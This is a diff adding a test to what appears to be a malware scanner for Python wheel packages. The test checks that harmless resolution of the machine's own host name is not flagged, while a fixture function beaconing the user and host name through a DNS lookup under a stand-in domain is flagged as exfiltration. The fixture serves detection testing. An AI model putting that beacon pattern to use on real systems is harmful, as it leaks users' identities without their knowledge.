@@ -303,3 +303,27 @@ def test_a_minified_bundle_with_new_function_is_not_an_encoded_exec(tmp_path):
     files = {"viewer/lib/run.js": packed, "viewer/__init__.py": b""}
     bad = scan(make_wheel(tmp_path / "bad", name="viewer", files=files))
     assert bad.risk.level in ("high", "critical"), [t.to_json() for t in bad.threats]
+
+
+def test_resolving_the_own_host_name_is_not_dns_exfiltration(tmp_path):
+    """Servers find their own address with gethostbyname(gethostname()) or its .local name;
+    the host or user name joined to a domain someone else answers for is exfiltration."""
+    own = b"""import socket
+
+def local_ips():
+    ips = socket.gethostbyname_ex(socket.gethostname())[2]
+    ips += socket.gethostbyname_ex(socket.gethostname() + ".local")[2]
+    return ips
+"""
+    leak = b"""import getpass, socket
+
+def beacon():
+    socket.gethostbyname(getpass.getuser() + "." + socket.gethostname() + ".example.invalid")
+"""
+    ok = scan(make_wheel(tmp_path, name="netinfo", files={"netinfo/ips.py": own}))
+    assert "net.dns_exfil" not in {h.capability for h in ok.findings}
+    assert not ok.threats and ok.risk.level in ("none", "low", "medium")
+    (tmp_path / "bad").mkdir()
+    bad = scan(make_wheel(tmp_path / "bad", name="netinfo", files={"netinfo/ips.py": leak}))
+    assert "chain.exfiltration" in threat_ids(bad)
+    assert bad.risk.level in ("high", "critical")
